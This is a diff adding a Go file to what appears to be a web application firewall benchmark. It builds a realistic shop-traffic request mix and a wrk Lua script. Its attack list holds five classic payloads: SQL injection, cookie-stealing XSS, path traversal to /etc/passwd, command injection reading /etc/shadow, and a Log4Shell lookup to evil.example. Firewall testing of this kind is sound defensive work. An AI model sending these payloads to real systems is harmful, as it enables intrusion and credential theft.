@@ -1,0 +1,134 @@
+package main
+
+import (
+	"fmt"
+	"strings"
+)
+
+// The request mix, the same for every target. One cycle is 25 requests:
+// 9 benign GETs with query strings, 7 static assets, 4 JSON POSTs of about
+// 1 KB, 4 form posts and 1 attack (4%), the attack rotating through SQL
+// injection, XSS, path traversal, command injection and Log4Shell. wrk
+// plays it with mix.lua; the differential shadow test replays it in
+// process.
+
+// mixRequest is one request of the mix; an empty Method marks the slot
+// the attacks take turns in.
+type mixRequest struct {
+	Method, Path, Body, ContentType string
+}
+
+const (
+	formType = "application/x-www-form-urlencoded"
+	jsonType = "application/json"
+)
+
+var mixJSON = `{"order":{"id":"A-10293","customer":{"name":"Dana Whitfield","email":"dana@example.com","phone":"+44 20 7946 0958"},` +
+	`"shipping":{"street":"221B Baker Street","city":"London","postcode":"NW1 6XE","country":"GB"},` +
+	`"items":[{"sku":"WH-1000XM5","name":"Wireless headphones","qty":1,"price":279.99},` +
+	`{"sku":"USB-C-2M","name":"USB-C cable, 2 m","qty":2,"price":9.5},` +
+	`{"sku":"CASE-HARD","name":"Hard travel case","qty":1,"price":24.0}],` +
+	`"notes":"Please leave the parcel with the neighbour at number 12 if nobody answers the door. Thanks a lot!",` +
+	`"coupon":"SPRING-2024","gift":false,"newsletter":true,"payment":{"method":"card","last4":"4242","expiry":"09/27"},` +
+	`"meta":{"client":"web","version":"5.12.3","locale":"en-GB","currency":"GBP","session":"e3b0c44298fc1c149afbf4c8996fb924",` +
+	`"referrer":"https://shop.example.com/products/headphones?utm_source=newsletter&utm_medium=email"}}}`
+
+var mixForm = "name=Dana+Whitfield&email=dana%40example.com&subject=Order+A-10293&" +
+	"comment=" + strings.Repeat("Great+product%2C+arrived+quickly+and+works+well.+", 8)
+
+var mixAttacks = []mixRequest{
+	{"GET", "/products?id=1%27%20OR%20%271%27%3D%271%27--%20", "", ""},
+	{"POST", "/blog/comment", "name=x&comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", formType},
+	{"GET", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", "", ""},
+	{"GET", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow", "", ""},
+	{"GET", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "", ""},
+}
+
+var mixCycle = []mixRequest{
+	{"GET", "/search?q=wireless+headphones&page=2&sort=price", "", ""},
+	{"GET", "/static/app.js", "", ""},
+	{"POST", "/api/orders", mixJSON, jsonType},
+	{"GET", "/products?category=audio&brand=sony&min_price=50&max_price=300", "", ""},
+	{"GET", "/static/style.css", "", ""},
+	{"POST", "/blog/comment", mixForm, formType},
+	{"GET", "/api/items?limit=20&offset=40&fields=id,name,price", "", ""},
+	{"GET", "/img/logo.png", "", ""},
+	{"GET", "/account/orders?status=shipped&year=2024", "", ""},
+	{"POST", "/api/cart", mixJSON, jsonType},
+	{"GET", "/static/vendor.js", "", ""},
+	{"GET", "/search?q=usb-c+cable+2m&lang=en", "", ""},
+	{"POST", "/contact", mixForm, formType},
+	{}, // an attack
+	{"GET", "/img/hero.jpg", "", ""},
+	{"GET", "/blog/posts?tag=reviews&page=3", "", ""},
+	{"POST", "/api/orders", mixJSON, jsonType},
+	{"GET", "/products/wh-1000xm5?ref=home&variant=black", "", ""},
+	{"GET", "/favicon.ico", "", ""},
+	{"POST", "/newsletter", "email=dana%40example.com&consent=yes&source=footer", formType},
+	{"GET", "/help/articles?topic=returns&q=refund+time", "", ""},
+	{"GET", "/static/fonts/inter.woff2", "", ""},
+	{"POST", "/api/events", mixJSON, jsonType},
+	{"GET", "/search?q=noise+cancelling&page=1&per_page=24", "", ""},
+	{"POST", "/support/tickets", "subject=Login+problem&message=" + strings.Repeat("I+cannot+log+in+since+yesterday.+", 6), formType},
+}
+
+// mixHeaders are sent with every request, as a browser would.
+var mixHeaders = [][2]string{
+	{"Host", "shop.example.com"},
+	{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
+	{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
+	{"Accept-Language", "en-GB,en;q=0.7"},
+	{"Accept-Encoding", "identity"},
+	{"Cookie", "session=3f9a1c0b7d2e44a1; theme=dark"},
+}
+
+// mixRequests lists one whole turn of the mix: the cycle once per attack,
+// each time with the next attack in its slot.
+func mixRequests() []mixRequest {
+	var out []mixRequest
+	for _, a := range mixAttacks {
+		for _, r := range mixCycle {
+			if r.Method == "" {
+				r = a
+			}
+			out = append(out, r)
+		}
+	}
+	return out
+}
+
+// mixScript is the wrk script: the mix as Lua tables, then mix.lua.
+func mixScript() []byte {
+	var b strings.Builder
+	list := func(name string, rs []mixRequest) {
+		fmt.Fprintf(&b, "local %s = {\n", name)
+		for _, r := range rs {
+			if r.Method == "" {
+				b.WriteString("  {\"ATTACK\"},\n")
+				continue
+			}
+			fmt.Fprintf(&b, "  {%s, %s", lua(r.Method), lua(r.Path))
+			if r.Body != "" {
+				fmt.Fprintf(&b, ", %s, %s", lua(r.Body), lua(r.ContentType))
+			}
+			b.WriteString("},\n")
+		}
+		b.WriteString("}\n\n")
+	}
+	b.WriteString("-- Generated by wafbench from bench/mix.go.\n")
+	list("attacks", mixAttacks)
+	list("mix", mixCycle)
+	b.WriteString("local common = {\n")
+	for _, h := range mixHeaders {
+		fmt.Fprintf(&b, "  [%s] = %s,\n", lua(h[0]), lua(h[1]))
+	}
+	b.WriteString("}\n\n")
+	b.Write(mixLua)
+	return []byte(b.String())
+}
+
+// lua quotes s as a Lua string literal.
+func lua(s string) string {
+	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`, "\r", `\r`)
+	return `"` + r.Replace(s) + `"`
+}
